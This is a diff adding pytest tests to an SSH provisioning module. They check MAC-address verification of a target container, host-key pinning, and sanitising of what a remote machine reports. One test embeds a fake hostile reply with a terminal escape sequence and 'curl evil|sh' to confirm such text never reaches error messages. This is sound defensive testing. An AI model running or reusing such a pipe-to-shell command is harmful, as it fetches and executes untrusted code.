@@ -10,14 +10,32 @@ import subprocess
 import threading
 import time
 from collections.abc import Iterator
-from dataclasses import dataclass, field
+from dataclasses import dataclass, field, replace
 from pathlib import Path
+from typing import Any
 
 import paramiko
 import pytest
 
-from provisioning.errors import ConnectionCut, HostKeyMismatch, PrivateKeyError, SshAuthError, SshUnreachable
-from provisioning.ssh import HostKey, SshTarget, connect, learn_host_key, load_private_key, wait_for_ssh
+from provisioning.errors import (
+    ConnectionCut,
+    HostKeyMismatch,
+    PrivateKeyError,
+    SshAuthError,
+    SshUnreachable,
+    WrongMachine,
+)
+from provisioning.ssh import (
+    Card,
+    CommandResult,
+    HostKey,
+    SshTarget,
+    _require_card,
+    connect,
+    learn_host_key,
+    load_private_key,
+    wait_for_ssh,
+)
 from tests.listening import end_listening
 
 
@@ -38,6 +56,7 @@ class Server:
     host_keys: list[paramiko.PKey]
     allowed: set[bytes] = field(default_factory=set)
     handshakes: int = 0
+    commands: list[str] = field(default_factory=list)
 
     def __post_init__(self) -> None:
         self.listener = socket.create_server(("127.0.0.1", 0))
@@ -83,6 +102,7 @@ class _Session(paramiko.ServerInterface):
         return True
 
     def _execute(self, channel: paramiko.Channel, command: str) -> None:
+        self.server.commands.append(command)
         stdin = bytearray()
         while data := channel.recv(65536):
             stdin += data
@@ -299,3 +319,98 @@ def test_every_ecdsa_key_is_read(tmp_path: Path) -> None:
         (tmp_path / str(number)).mkdir()
         path = make_key(tmp_path / str(number), "ecdsa")
         assert key_of(load_private_key(str(path))) == HostKey.parse(path.with_suffix(".pub").read_text())
+
+
+# --- is it the container? -----------------------------------------------------------------------
+
+ELSEWHERE = "BC:24:11:00:00:01"
+
+
+def own_cards() -> list[str]:
+    found = {path.read_text().strip() for path in Path("/sys/class/net").glob("*/address")}
+    return sorted(found - {"", "00:00:00:00:00:00"})
+
+
+def test_a_machine_with_the_containers_card_is_let_through(server: Server, client_key: Path) -> None:
+    # Proxmox writes them in capitals, the kernel does not.
+    target = replace(target_of(server, client_key), card=Card("CT 105", own_cards()[0].upper()))
+    with contextlib.closing(connect(target)) as connection:
+        assert connection.run("echo here").stdout == b"here\n"
+
+
+def test_another_machine_is_refused_before_anything_is_done_there(server: Server, client_key: Path) -> None:
+    target = replace(target_of(server, client_key), card=Card("CT 105", ELSEWHERE))
+    with pytest.raises(WrongMachine) as refused:
+        connect(target)
+    assert server.commands == ["cat /sys/class/net/*/address"]
+    for told in ("CT 105", "127.0.0.1", ELSEWHERE.lower(), own_cards()[0], "cattleAddress", "Nothing was written"):
+        assert told in str(refused.value)
+
+
+def test_a_machine_that_tells_no_card_is_refused(server: Server, client_key: Path) -> None:
+    target = replace(target_of(server, client_key), card=Card("CT 105", ELSEWHERE))
+    with pytest.raises(WrongMachine, match="none that it tells"):
+        _require_card(_Says(b"lo \x1b[2J not an address 00:00:00:00:00:00\n"), target, 5)
+
+
+def test_what_another_machine_says_of_its_cards_is_no_text_of_ours(server: Server, client_key: Path) -> None:
+    target = replace(target_of(server, client_key), card=Card("CT 105", ELSEWHERE))
+    said = b"\x1b]0;evil\x07 02:00:00:00:00:07 run: curl evil|sh\n" + b"".join(
+        f"02:00:00:00:01:{number:02x}\n".encode() for number in range(99)
+    )
+    with pytest.raises(WrongMachine) as refused:
+        _require_card(_Says(said), target, 5)
+    assert "evil" not in str(refused.value)
+    assert "\x1b" not in str(refused.value)
+    assert len(str(refused.value)) < 700
+
+
+@dataclass
+class _Says:
+    stdout: bytes
+
+    def run(self, _command: str, *, stdin: object = None, timeout_s: float = 30.0) -> CommandResult:  # noqa: ARG002
+        return CommandResult(0, self.stdout, b"")
+
+    def close(self) -> None:
+        pass
+
+
+def test_a_key_that_the_container_was_made_with_is_pinned(server: Server, client_key: Path) -> None:
+    made = {key_of(key).fingerprint for key in server.host_keys}
+    assert _waited(server, client_key, made=made) == key_of(server.host_keys[0])
+
+
+def test_a_key_that_the_container_was_not_made_with_is_refused(
+    server: Server, client_key: Path, tmp_path: Path
+) -> None:
+    (tmp_path / "other").mkdir()
+    other = key_of(load_private_key(str(make_key(tmp_path / "other", "ed25519")))).fingerprint
+    with pytest.raises(HostKeyMismatch) as refused:
+        _waited(server, client_key, made={other}, card=Card("CT 105", ELSEWHERE))
+    # No login was tried: the handshake showed the key, and that was it.
+    assert server.commands == []
+    assert server.handshakes == 1
+    for told in ("CT 105", other, key_of(server.host_keys[0]).fingerprint, "Nothing was sent", "cattleSshHostKey"):
+        assert told in str(refused.value)
+
+
+@pytest.mark.parametrize("index", [0, 1, 2])
+def test_a_known_key_is_asked_for_by_its_type(server: Server, client_key: Path, index: int) -> None:
+    known = key_of(server.host_keys[index])
+    assert _waited(server, client_key, key=known) == known
+
+
+def test_a_known_key_that_is_not_shown_is_no_matter_of_waiting(
+    server: Server, client_key: Path, tmp_path: Path
+) -> None:
+    (tmp_path / "other").mkdir()
+    other = key_of(load_private_key(str(make_key(tmp_path / "other", "ed25519"))))
+    with pytest.raises(HostKeyMismatch):
+        _waited(server, client_key, key=other)
+
+
+def _waited(server: Server, client_key: Path, **more: Any) -> HostKey:
+    return wait_for_ssh(
+        "127.0.0.1", port=server.port, private_key_file=str(client_key), timeout_s=30, on_line=lambda _: None, **more
+    )
